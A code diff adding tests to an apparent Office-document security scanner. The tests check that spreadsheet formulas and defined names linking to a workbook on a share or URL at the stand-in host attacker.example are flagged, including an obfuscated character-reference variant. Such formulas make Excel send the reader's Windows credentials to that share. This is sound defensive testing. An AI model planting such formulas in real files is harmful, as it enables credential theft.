@@ -533,6 +533,38 @@ def test_is_not_dde_formula(formula: str) -> None:
     assert not is_dde_formula(formula)
 
 
+SHARED_BOOK = "'\\\\attacker.example\\share\\[Book2.xlsx]Sheet1'!A1"
+
+
+@pytest.mark.parametrize(
+    ("sheet", "names"),
+    [
+        (formula_sheet(SHARED_BOOK), ""),
+        (formula_sheet("SUM(" + SHARED_BOOK + ",2)"), ""),
+        (formula_sheet(SHARED_BOOK.replace("\\", "&#92;")), ""),
+        (formula_sheet("'http://attacker.example/[Book2.xlsx]Sheet1'!A1"), ""),
+        (formula_sheet("'\\\\attacker.example\\share\\Book2.xlsx'!Total"), ""),
+        (None, f'<definedNames><definedName name="x">{SHARED_BOOK}</definedName></definedNames>'),
+    ],
+    ids=["cell", "inside-a-call", "char-refs", "url", "defined-name-of-a-book", "defined-name"],
+)
+def test_a_formula_that_opens_a_workbook_on_a_share(sheet: str | None, names: str) -> None:
+    # Excel opens the workbook to compute the cell, sending the share the reader's Windows
+    # credentials; the red team's formulas named no externalLink part and passed
+    report = analyse_package(xlsx(sheet, names=names))
+    where = "xl/workbook.xml" if names else "xl/worksheets/sheet1.xml"
+    assert threats(report) == [(OpcKind.EXTERNAL_LINK, where, "formula")]
+
+
+@pytest.mark.parametrize(
+    "formula",
+    ["[1]Sheet1!A1", "SUM('Q1 2026'!A1:A3)", '"\\\\host\\x!"', "Table1[[#This Row],[Price]]*2"],
+    ids=["external-link-index", "quoted-sheet", "text-constant", "structured-reference"],
+)
+def test_formulas_that_open_no_other_workbook(formula: str) -> None:
+    assert threats(analyse_package(xlsx(formula_sheet(formula)))) == []
+
+
 # -- macros --------------------------------------------------------------------------------------
 
 
